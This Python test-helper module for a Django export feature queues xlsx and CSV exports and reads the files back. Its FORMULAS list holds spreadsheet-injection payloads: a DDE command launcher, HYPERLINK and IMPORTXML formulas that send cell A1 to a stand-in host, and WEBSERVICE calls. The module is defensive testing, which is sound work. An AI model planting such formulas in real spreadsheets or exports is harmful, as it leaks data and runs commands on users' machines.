"""Lists put down as files, and the files read back by another program than the one that wrote them."""

import csv
import io
import unicodedata
import uuid

from django.utils import timezone
from python_calamine import CalamineWorkbook

from dossiers import actions
from dossiers.models import Job, JobFile

EMPTY = {"agency": None, "procedure": None, "unit": None, "person": None, "cause": "", "is_alone": False}
_BEGINS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", " =", "\u00a0=", "\ufeff=", "\u200b=", "\u202e=", "＝",
           "＋", "－", "＠", "\x1b=", '"=', "'=", ",=", ";=", '","=', '";"=')  # fmt: skip
FORMULAS = [
    *(f"{begin}1+1" for begin in _BEGINS[:20]),
    *(f'{begin}HYPERLINK("http://x.vn?"&A1;"Xem")' for begin in _BEGINS),
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x.vn?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.vn\")", "http://x.vn", "mailto:a@x.vn", "internal:Sheet1!A1", "{=1+1}", "<f>1+1</f>",
    "1e5", "0912345678", "TRUE", "#REF!", "=" * 40_000,
]  # fmt: skip
# Every control character, and those that hide what stands beside them.
UNSEEN = [chr(code) for code in range(0xA0) if unicodedata.category(chr(code)) == "Cc"]
UNSEEN += ["\u200b", "\u200e", "\u202a", "\u202e", "\u2066", "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff"]


def queued(by, what: str, *, form: str = "xlsx", key=None, query=None, **narrowed) -> Job:
    asked = {**EMPTY, **narrowed} if query is None else query
    return actions.queue_export(
        by=by, now=timezone.now(), key=uuid.UUID(str(key)) if key else uuid.uuid4(), what=what, query=asked, form=form
    )


def content(job: Job) -> bytes:
    return bytes(JobFile.objects.get(job=job).content)


def _rows(job: Job) -> list[list]:
    raw = content(job)
    if job.facts["form"] == "csv":
        return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    return CalamineWorkbook.from_filelike(io.BytesIO(raw)).get_sheet_by_index(0).to_python()


def above(job: Job) -> list[str]:
    """What stands above the lines."""
    return [row[0] for row in _rows(job)[:4]]


def lines(job: Job) -> list[dict]:
    """Each line by the titles of its columns."""
    titles, *rows = _rows(job)[5:]
    return [dict(zip(titles, row, strict=True)) for row in rows]
